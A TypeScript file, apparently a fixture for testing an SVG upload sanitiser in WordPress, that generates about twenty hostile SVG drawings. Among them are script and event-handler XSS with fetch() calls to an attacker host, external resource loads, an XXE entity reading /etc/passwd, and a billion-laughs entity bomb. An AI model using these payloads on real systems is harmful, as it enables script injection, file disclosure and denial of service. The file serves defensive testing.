/** SVG drawings that an attacker uploads to WordPress. Each one tries to run a script, to load something of another host, or to read a file. */

const NAMESPACES = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"';
/** A shape, so that the browser has something to paint. */
const SHAPE = '<rect id="shape" width="40" height="40" fill="#888"/>';

/** @param host origin of the attacker, who counts connections */
export function listHostileDrawings(host: string): readonly (readonly [name: string, svg: string])[] {
  const drawing = (content: string, attributes = '') =>
    `<svg ${NAMESPACES} width="40" height="40" viewBox="0 0 40 40" ${attributes}>${SHAPE}${content}</svg>`;
  const html = (content: string) =>
    drawing(`<foreignObject width="40" height="40"><div xmlns="http://www.w3.org/1999/xhtml">${content}</div></foreignObject>`);
  const run = `document.title='ran';fetch('${host}/ran');new Image().src='${host}/ran'`;
  return [
    ['a script', drawing(`<script>${run}</script>`)],
    ['a script of another host', drawing(`<script href="${host}/script.js"/><script xlink:href="${host}/script2.js"/>`)],
    ['a script of the site itself', drawing('<script href="/assets/main.js"/>')],
    ['event handlers', drawing(`<circle r="5" onclick="${run}"/><image href="x:" onerror="${run}"/>`, `onload="${run}"`)],
    ['an animation that begins an event handler', drawing(`<animate attributeName="x" begin="0s" dur="1s" onbegin="${run}"/>`)],
    [
      'an animated link to a script',
      drawing(`<a><animate attributeName="href" values="javascript:${run}" begin="0s" fill="freeze"/><text y="20">x</text></a>`),
    ],
    ['a set event handler', drawing(`<set attributeName="onmouseover" to="${run}"/><set attributeName="href" to="${host}/set"/>`)],
    ['a use element of another host', drawing(`<use href="${host}/sprite.svg#a"/><use xlink:href="data:image/svg+xml,&lt;svg/&gt;#a"/>`)],
    ['pictures of another host', drawing(`<image href="${host}/pixel.png" width="9" height="9"/><feImage xlink:href="${host}/fe.png"/>`)],
    [
      'styles of another host',
      drawing(`<style>@import url("${host}/style.css");@font-face{font-family:f;src:url("${host}/font.woff2")}
        rect{fill:url("${host}/paint.svg#p");background:url("${host}/bg.png");font-family:f}</style><text y="20" font-family="f">x</text>`),
    ],
    ['a style sheet instruction', `<?xml version="1.0"?><?xml-stylesheet href="${host}/pi.css" type="text/css"?>${drawing('')}`],
    ['an XSLT instruction', `<?xml version="1.0"?><?xml-stylesheet href="${host}/pi.xsl" type="text/xsl"?>${drawing('')}`],
    ['frames and objects in HTML', html(`<iframe src="${host}/frame"/><object data="${host}/object"/><embed src="${host}/embed"/>`)],
    [
      'a picture, a video and a form in HTML',
      html(`<img src="${host}/img.png"/><video src="${host}/v.mp4" autoplay=""/><form action="${host}/form"/>`),
    ],
    ['a redirect in HTML', html(`<meta http-equiv="refresh" content="0;url=${host}/refresh"/>`)],
    [
      'links that are loaded ahead',
      html(
        ['preload', 'prefetch', 'stylesheet', 'preconnect', 'dns-prefetch', 'modulepreload', 'icon']
          .map((rel) => `<link rel="${rel}" href="${host}/${rel}" as="image"/>`)
          .join(''),
      ),
    ],
    ['an inner frame with a script', html(`<iframe srcdoc="&lt;script&gt;${run.replaceAll("'", '&apos;')}&lt;/script&gt;"/>`)],
    [
      'an external entity',
      `<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY h SYSTEM "${host}/entity">]>${drawing('<text y="20">&e;&h;</text>')}`,
    ],
    ['an external document type', `<!DOCTYPE svg SYSTEM "${host}/svg.dtd">${drawing('')}`],
    ['an XInclude', drawing(`<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="${host}/xinclude" parse="text"/>`)],
    ['entities that grow a billion times', buildEntityBomb(drawing)],
  ];
}

function buildEntityBomb(drawing: (content: string) => string): string {
  const levels = Array.from({ length: 10 }, (_, level) =>
    level === 0 ? '<!ENTITY e0 "ha">' : `<!ENTITY e${level} "${`&e${level - 1};`.repeat(10)}">`,
  );
  return `<!DOCTYPE svg [${levels.join('')}]>${drawing('<text y="20">&e9;</text>')}`;
}
